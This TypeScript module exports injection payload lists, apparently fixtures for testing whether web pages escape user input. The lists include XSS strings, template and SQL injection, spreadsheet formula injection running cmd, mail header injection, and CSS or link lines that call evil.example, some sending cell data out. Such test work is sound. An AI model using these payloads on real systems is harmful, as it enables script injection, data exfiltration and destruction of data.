/**
 * Sixty things to write where a page may take them for its own: each would set `window.ran`, ask for an address or break the page where
 * somebody printed it without care. Four share a field; what would swallow the rest of a page stands last of its four.
 */
export const PAYLOADS = [
  // Script elements.
  "<script>ran=1</script>",
  "<ScRiPt >ran=1</sCrIpT >",
  '"><script>ran=1</script>',
  "<script>ran=1",
  "<script src=data:text/javascript,ran=1></script>",
  "<script src=//evil.example/x.js></script>",
  "<script type=module>ran=1</script>",
  "</script><script>ran=1</script><script>",
  // Event handlers.
  "<img src=x onerror=ran=1>",
  "<img src=x onerror=\"ran=1;alert('ran')\">",
  "<body onload=ran=1>",
  "<input autofocus onfocus=ran=1>",
  "<details open ontoggle=ran=1>x</details>",
  "<video><source onerror=ran=1></video>",
  "<audio src=x onerror=ran=1></audio>",
  "<marquee onstart=ran=1>x</marquee>",
  "<a href=# onmouseover=ran=1>over</a>",
  "<div style=animation-name:x onanimationstart=ran=1>",
  "<iframe onload=ran=1></iframe>",
  "<object data=x onerror=ran=1>",
  // Addresses that are code.
  "<a href=javascript:ran=1>x</a>",
  "javascript:ran=1//",
  "<iframe src=javascript:parent.ran=1></iframe>",
  '<form action="javascript:ran=1"><button>x</button></form>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  "<embed src=data:text/html,<script>ran=1</script>>",
  "<base href=//evil.example/>",
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  // SVG and MathML.
  "<svg onload=ran=1>",
  "<svg><script>ran=1</script></svg>",
  "<svg><animate onbegin=ran=1 attributeName=x dur=1s>",
  "<math><mtext><style><img src=x onerror=ran=1></style>",
  // Templates of other programs.
  "{{constructor.constructor('ran=1')()}}",
  "$" + "{window.ran=1}",
  "<%= global.ran = 1 %>",
  "#{7*7} *{7*7} @{7*7} {7*7} {count, plural, other {#}}",
  // Out of an attribute, a text area, a comment, a string.
  '" onfocus=ran=1 autofocus x="',
  "' onmouseover='ran=1",
  "`;ran=1;`",
  "</textarea><img src=x onerror=ran=1>",
  "</title></style><img src=x onerror=ran=1>",
  "--><img src=x onerror=ran=1>",
  "']});ran=1;//",
  "<!--",
  // CSS.
  "<style>body{display:none}</style>",
  "<style>@import '//evil.example/x.css';</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "}*{background:url(//evil.example/x)}<style>",
  // Letters that are not what they look like.
  "\u202e>tpircs/<1=nar>tpircs<\u202c",
  "\uff1cscript\uff1eran=1\uff1c/script\uff1e",
  "<scr\u200bipt>ran=1</scr\u200bipt>",
  "&lt;script&gt;ran=1&lt;/script&gt; &#60;img src=x onerror=ran=1&#62; \\u003cscript\\u003e %3Cscript%3E",
  // Spreadsheets, mails, databases, prototypes.
  '=HYPERLINK("//evil.example/?"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "x\r\nBcc: all@evil.example\r\n\r\n<script>ran=1</script>",
  "'; drop table submission; --",
  "__proto__[ran]=1&constructor.prototype.ran=1",
  "]]><![CDATA[<script>ran=1</script>",
  "<plaintext>",
] as const;

/** Where a telephone number is asked for: at most thirty characters, and none of them a number. */
export const NO_NUMBERS = [
  '"><img src=x onerror=ran=1>',
  '"autofocus onfocus=ran=1 x="',
  "javascript:ran=1",
  "<svg onload=ran=1>",
  "5550100\r\nBcc: a@evil.example",
] as const;
